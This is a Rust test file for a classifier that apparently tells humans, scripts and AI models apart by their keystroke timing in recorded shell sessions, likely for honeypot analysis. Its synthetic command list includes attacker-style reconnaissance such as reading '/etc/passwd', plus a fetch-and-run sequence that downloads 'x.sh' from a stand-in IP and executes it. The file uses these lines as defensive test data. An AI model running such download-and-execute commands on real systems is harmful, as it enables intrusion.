//! Made-up sessions of people, programs and models, and what is said of them.

use super::keystrokes;
use decnet_shape::Keystrokes;
use proptest::prelude::*;
use serde_json::json;

const COMMANDS: [&str; 16] = [
    "id",
    "uname -a",
    "ls -la /tmp",
    "cat /etc/passwd",
    "cd /var/tmp",
    "wget http://192.0.2.7/x.sh",
    "chmod +x x.sh",
    "./x.sh",
    "ps aux | grep ssh",
    "netstat -tlnp",
    "history",
    "w",
    "cat /proc/cpuinfo | grep model",
    "crontab -l",
    "free -m",
    "df -h",
];

/// SplitMix64, repeatable by its seed.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1_u64 << 53) as f64
    }

    fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    fn chance(&mut self, share: f64) -> bool {
        self.unit() < share
    }

    fn between(&mut self, least: f64, most: f64) -> f64 {
        least + (most - least) * self.unit()
    }

    /// Skewed as the pauses of people are: log-normal, of twelve even ones.
    fn skewed(&mut self, middle: f64, deviation: f64) -> f64 {
        let normal = (0..12).map(|_| self.unit()).sum::<f64>() - 6.0;
        middle * (deviation * normal).exp()
    }

    fn command(&mut self) -> &'static str {
        COMMANDS[usize::try_from(self.below(16)).unwrap()]
    }
}

/// A recording that is made, and the time so far in milliseconds.
struct Tape {
    text: String,
    at: f64,
}

impl Tape {
    fn new() -> Self {
        Tape { text: format!("{}\n", json!({"version": 2, "width": 80, "height": 24})), at: 500.0 }
    }

    fn put(&mut self, after: f64, stream: &str, text: &str) {
        self.at += after;
        self.text.push_str(&format!("{}\n", json!([self.at / 1000.0, stream, text])));
    }

    fn prompt(&mut self, after: f64) {
        self.put(after, "o", "done\r\n$ ");
    }

    /// A line that is typed, with slips.
    fn typed(&mut self, random: &mut Random, line: &str, middle: f64) {
        for character in line.chars() {
            if random.chance(0.04) {
                self.put(random.skewed(middle, 0.5), "i", "q");
                self.put(random.skewed(middle * 2.0, 0.5), "i", "\u{7f}");
            }
            self.put(random.skewed(middle, 0.5), "i", &character.to_string());
            self.put(2.0, "o", &character.to_string());
        }
        self.put(random.skewed(middle * 2.0, 0.5), "i", "\r");
        self.prompt(30.0);
    }
}

fn person(random: &mut Random) -> String {
    let mut tape = Tape::new();
    let (middle, thinks) = (random.between(70.0, 260.0), random.between(800.0, 6000.0));
    for _ in 0..5 + random.below(16) {
        tape.at += random.skewed(thinks, 0.9);
        let line = random.command();
        tape.typed(random, line, middle);
    }
    tape.text
}

fn paster(random: &mut Random) -> String {
    let mut tape = Tape::new();
    let (middle, thinks) = (random.between(80.0, 260.0), random.between(3000.0, 12_000.0));
    for _ in 0..5 + random.below(12) {
        tape.at += random.skewed(thinks, 1.1);
        if random.chance(0.25) {
            let line = random.command();
            tape.typed(random, line, middle);
            continue;
        }
        let lines = if random.chance(0.2) { 1 + random.below(4) } else { 1 };
        let block: Vec<&str> = (0..lines).map(|_| random.command()).collect();
        let block = block.join("\r");
        if random.chance(0.25) {
            tape.put(0.0, "i", &format!("{block}\r"));
        } else {
            tape.put(0.0, "i", &block);
            tape.put(2.0, "o", &block);
            tape.put(random.skewed(450.0, 0.45), "i", "\r");
        }
        tape.prompt(30.0);
    }
    tape.text
}

/// One that waits for the prompt, or for nothing, or by a timer, or presses keys by a timer.
fn program(random: &mut Random) -> String {
    let mut tape = Tape::new();
    let how = random.below(4);
    let lines = 4 + random.below(16);
    let (timer, key) = (random.between(300.0, 5000.0), random.between(15.0, 80.0));
    for _ in 0..lines {
        let line = format!("{}\r", random.command());
        match how {
            0 => tape.put(random.between(5.0, 80.0), "i", &line),
            1 => tape.put(random.unit(), "i", &line),
            2 => tape.put(timer * random.between(0.98, 1.02), "i", &line),
            _ => {
                tape.at += timer * random.between(0.98, 1.02);
                for character in line.chars() {
                    tape.put(key * random.between(0.96, 1.04), "i", &character.to_string());
                    tape.put(2.0, "o", &character.to_string());
                }
            }
        }
        if how != 1 {
            tape.prompt(30.0);
        }
    }
    tape.text
}

fn model(random: &mut Random) -> String {
    let mut tape = Tape::new();
    let lines = 5 + random.below(16);
    let (middle, deviation) = (random.between(2000.0, 14_000.0), random.between(0.15, 0.45));
    let apart = random.chance(0.5);
    for _ in 0..lines {
        tape.at += random.skewed(middle, deviation);
        let line = random.command();
        if apart {
            tape.put(0.0, "i", line);
            tape.put(random.between(1.0, 40.0), "i", "\r");
        } else {
            tape.put(0.0, "i", &format!("{line}\r"));
        }
        tape.prompt(random.between(20.0, 300.0));
    }
    tape.text
}

fn of(text: &str) -> Keystrokes {
    keystrokes(text.as_bytes()).unwrap()
}

fn said(keystrokes: &Keystrokes, name: &str) -> String {
    let found = keystrokes.features.iter().find(|one| one.name == name);
    found.map(|one| one.value.clone()).unwrap_or_default()
}

#[test]
fn each_kind_of_session_is_told_on_seeds_that_no_bound_was_set_on() {
    let kinds: [(&str, fn(&mut Random) -> String); 4] =
        [("person typing", person), ("person pasting", paster), ("program", program), ("model", model)];
    for (name, made) in kinds {
        let right = (100_000..100_400).filter(|seed| said(&of(&made(&mut Random(*seed))), "author") == name);
        let right = right.count();
        assert!(360 <= right, "{name}: {right} of 400");
    }
}

#[test]
fn slips_the_keys_of_a_shell_and_editors_are_counted() {
    let mut tape = Tape::new();
    let keys = "vi x|\u{7f}\u{3}nano a\r|ls\t\r|\u{1b}[A\u{1b}[D\r|\u{12}ss\r|cat y \u{15}w\r";
    for key in keys.replace('|', "").split_inclusive(|c: char| c != '\u{1b}' && c != '[') {
        tape.put(120.0, "i", key);
    }
    // The answer of a terminal is nobody's key.
    tape.put(900.0, "i", "\u{1b}[24;80R\u{1b}]11;rgb:0/0/0\u{1b}\\");
    let found = of(&tape.text);
    assert_eq!((found.lines, said(&found, "corrections").as_str()), (5, "many"));
    assert_eq!(said(&found, "mastery"), "high");
    let why: Vec<&str> = found.features.iter().map(|one| one.evidence.as_str()).collect();
    let why = why.join("\n");
    for part in ["1 took back a character, 1 a word or a line, and 1 were ^C", "1 completions", "1 editors"] {
        assert!(why.contains(part), "{part}: {why}");
    }
    assert!(found.features.iter().all(|one| one.confidence <= 95));
}

#[test]
fn what_says_nothing_is_not_guessed_at() {
    for text in
        ["", "{}", "{}\n[1,\"o\",\"x\"]\n", "{}\n[1,\"i\",\"\\u001b[1;1R\"]\n", "\n[1]\nx\n[1,\"i\",2]"]
    {
        assert_eq!(keystrokes(text.as_bytes()), None, "{text:?}");
    }
    let few = of("{}\n[1.0,\"i\",\"id\\r\"]\n");
    assert_eq!((said(&few, "author").as_str(), few.lines), ("unknown", 1));
}

#[test]
fn a_recording_of_hostile_size_is_read_in_part_and_once() {
    let entry = "[1e300,\"i\",\"\\u001b[200~\\u001b[99999999999~a\\r\"]\n[-5,\"i\",\"x\"]\n";
    let text = format!("{{}}\n{}", entry.repeat((5 << 20) / entry.len()));
    let found = of(&text);
    assert!(found.cut && 50_000 < found.keys, "{} keys", found.keys);
}

proptest! {
    #[test]
    fn any_bytes_are_borne(bytes: Vec<u8>, typed: Vec<(f64, String)>) {
        let _ = keystrokes(&bytes);
        let lines: Vec<String> = typed.iter().map(|(at, text)| json!([at, "i", text]).to_string()).collect();
        let found = keystrokes(format!("{{}}\n{}", lines.join("\n")).as_bytes());
        let most = typed.iter().map(|(_, text)| text.chars().count() as u64).sum::<u64>();
        prop_assert!(found.is_none_or(|found| found.keys <= most && found.lines <= found.keys + 1));
    }
}
